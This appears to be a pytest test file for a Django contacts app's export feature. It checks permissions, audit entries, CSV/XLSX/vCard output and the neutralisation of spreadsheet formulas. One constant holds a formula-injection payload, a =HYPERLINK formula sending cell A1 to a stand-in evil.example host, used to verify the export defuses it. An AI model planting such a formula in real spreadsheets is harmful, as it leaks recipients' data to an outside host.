"""Export: permissions, audit, formula neutralisation, formats, and the round trip."""

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from contacts import services
from contacts.exporting import neutralise, restore_neutralised
from contacts.models import (
    Affiliation,
    ContactGroup,
    ImportJob,
    Organisation,
    Person,
    PersonEmail,
    PersonPhone,
    Region,
)
from prapp.models import AuditEntry

from .factories import ContactListFactory

EXPORT = reverse("contacts:export")
HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A1,"click")'


@pytest.fixture(autouse=True)
def _media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"


@pytest.fixture
def editor(make_user):
    return make_user("editor", role="Editor")


def _content(response) -> bytes:
    if response.streaming:
        return b"".join(
            c if isinstance(c, bytes) else c.encode()
            for c in response.streaming_content
        )
    return response.getvalue()


@pytest.mark.parametrize(
    "value",
    ["=1+2", "+995599123456", "-5", "@SUM(A1)", "\tx", "\rx", "'=x", "''+1", "'plain"],
)
def test_neutralise_and_restore_are_inverse(value):
    quoted = neutralise(value)
    assert not quoted.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert restore_neutralised(quoted) == value


def test_plain_values_are_left_alone():
    for value in ["ნინო", "Nino", "", "O'Brien", "'plain"]:
        assert neutralise(value) == value
        assert restore_neutralised(value) == value


def _person(number, language, *, notes="", group=None, organisation=None, region=None):
    names = {
        "ka": ("ნინო", "ბერიძე", "Nino", "Beridze"),
        "hy": ("Անի", "Պետրոսյան", "Ani", "Petrosyan"),
        "en": ("John", "Smith", "", ""),
    }[language]
    person = Person.objects.create(
        first_name=f"{names[0]}{number}",
        last_name=names[1],
        first_name_latin=f"{names[2]}{number}" if names[2] else "",
        last_name_latin=names[3],
        position="ჟურნალისტი" if language == "ka" else "Editor",
        language=language,
        notes=notes,
        region=region,
    )
    PersonEmail.objects.create(
        person=person, email=f"p{number}@media.ge", is_primary=True
    )
    if number % 2:
        PersonEmail.objects.create(person=person, email=f"p{number}.private@mail.am")
    PersonPhone.objects.create(
        person=person, number=f"+99559900{number:04d}", is_primary=True
    )
    if number % 3 == 0:
        PersonPhone.objects.create(
            person=person, number=f"+3741000{number:04d}", kind=PersonPhone.Kind.OFFICE
        )
    if organisation is not None:
        Affiliation.objects.create(
            person=person, organisation=organisation, role="კორესპონდენტი"
        )
    if group is not None:
        person.groups.add(group)
    return person


@pytest.fixture
def twenty(db):
    rustavi = Organisation.objects.create(
        name="Rustavi 2", name_ka="რუსთავი 2", name_en="Rustavi 2", kind="media"
    )
    armenpress = Organisation.objects.create(
        name="Արմենպրես", name_hy="Արմենպրես", kind="media"
    )
    media = ContactGroup.objects.create(name="მედია", name_ka="მედია")
    politics = ContactGroup.objects.create(name="Politics", name_en="Politics")
    region = Region.objects.create(
        name="Kakheti", name_ka="კახეთი", name_en="Kakheti", country="GE"
    )
    people = []
    for n in range(20):
        people.append(
            _person(
                n,
                ["ka", "hy", "en"][n % 3],
                notes=["", "Line one\nline two, with a comma", "-note"][n % 3],
                group=[media, politics, None][n % 3],
                organisation=[rustavi, armenpress, None, rustavi][n % 4],
                region=region if n % 2 else None,
            )
        )
    return people


@pytest.mark.django_db
@pytest.mark.parametrize("file_format", ["csv", "xlsx", "vcf"])
def test_export_then_import_changes_nothing(client, manager, twenty, file_format):
    client.force_login(manager)
    response = client.get(EXPORT, {"format": file_format})
    assert response.status_code == 200
    content = _content(response)
    people_before = Person.objects.count()
    upload = SimpleUploadedFile(f"export.{file_format}", content)
    job = services.import_job_create(upload=upload, actor=manager)
    assert job.total_rows == 20
    services.import_job_set_mapping(
        job=job, fields=job.mapping["fields"], on_match="update", actor=manager
    )
    services.import_job_confirm(job=job, actor=manager, dispatch=False)
    job = services.import_job_run(job=job, actor=manager)
    assert job.status == ImportJob.Status.DONE, job.failure
    assert job.errors == []
    assert (job.created_count, job.updated_count, job.skipped_count) == (0, 0, 20)
    assert Person.objects.count() == people_before
    assert Organisation.objects.count() == 2
    assert ContactGroup.objects.count() == 2
    assert not AuditEntry.objects.filter(action="contacts.person.changed").exists()


@pytest.mark.django_db
def test_csv_neutralises_formulas_and_keeps_phones_readable(client, manager):
    person = _person(1, "ka", notes=HYPERLINK)
    person.position = "@ჟურნალისტი"
    person.save()
    client.force_login(manager)
    response = client.get(EXPORT, {"format": "csv"})
    assert response.streaming
    assert response["Content-Type"].startswith("text/csv")
    text = _content(response).decode("utf-8")
    assert text.startswith("\ufeff")
    header, row = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    values = dict(zip(header, row, strict=True))
    assert values["Notes"] == "'" + HYPERLINK
    assert values["Job Title"] == "'@ჟურნალისტი"
    assert values["Mobile Phone"] == "'+995599000001"
    for cell in row:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))


@pytest.mark.django_db
def test_xlsx_has_text_cells_only(client, manager):
    _person(3, "hy", notes=HYPERLINK)
    client.force_login(manager)
    response = client.get(EXPORT, {"format": "xlsx"})
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(_content(response))).active
    header = [c.value for c in sheet[1]]
    row = dict(zip(header, sheet[2], strict=True))
    assert row["Notes"].value == HYPERLINK
    assert row["Notes"].data_type == "s"  # text, never a formula
    assert row["Notes"].quotePrefix
    assert row["Mobile Phone"].value == "+995599000003"
    assert row["Business Phone"].value == "+37410000003"
    assert all(cell.data_type != "f" for cell in sheet[2])


@pytest.mark.django_db
def test_vcard_is_utf8_version_3(client, manager):
    _person(1, "ka")
    client.force_login(manager)
    text = _content(client.get(EXPORT, {"format": "vcf"})).decode("utf-8")
    assert "VERSION:3.0" in text
    assert "N:ბერიძე;ნინო1;;;" in text
    assert "TEL;TYPE=CELL:+995599000001" in text


@pytest.mark.django_db
def test_export_follows_the_filter_and_is_audited(client, manager):
    kept = _person(1, "ka")
    _person(2, "hy")
    contact_list = ContactListFactory()
    contact_list.members.add(kept)
    client.force_login(manager)
    response = client.get(EXPORT, {"format": "csv", "list": contact_list.pk})
    rows = list(csv.reader(io.StringIO(_content(response).decode("utf-8-sig"))))
    assert len(rows) == 2 and rows[1][0] == "ნინო1"
    entry = AuditEntry.objects.get(action="contacts.people.exported")
    assert entry.actor == manager
    assert entry.changes["count"] == [None, 1]
    assert entry.changes["filter"] == [None, {"list": [str(contact_list.pk)]}]
    assert entry.changes["format"] == [None, "csv"]


@pytest.mark.django_db
def test_unknown_format_is_refused(client, manager):
    client.force_login(manager)
    assert client.get(EXPORT, {"format": "pdf"}).status_code == 400
    assert not AuditEntry.objects.filter(action="contacts.people.exported").exists()


@pytest.mark.django_db
def test_export_permissions(client, make_user, manager, viewer, editor):
    _person(1, "ka")
    assert client.get(EXPORT).status_code == 302
    assert client.get(EXPORT).url.startswith(reverse("login"))
    for user in (viewer, editor, make_user("nobody")):
        client.force_login(user)
        assert client.get(EXPORT, {"format": "csv"}).status_code == 403
    assert not AuditEntry.objects.filter(action="contacts.people.exported").exists()
    client.force_login(manager)
    assert client.get(EXPORT, {"format": "csv"}).status_code == 200


@pytest.mark.django_db
def test_export_service_checks_the_permission(editor):
    from django.core.exceptions import PermissionDenied

    with pytest.raises(PermissionDenied):
        services.people_export(params={}, file_format="csv", actor=editor)
    assert not AuditEntry.objects.exists()
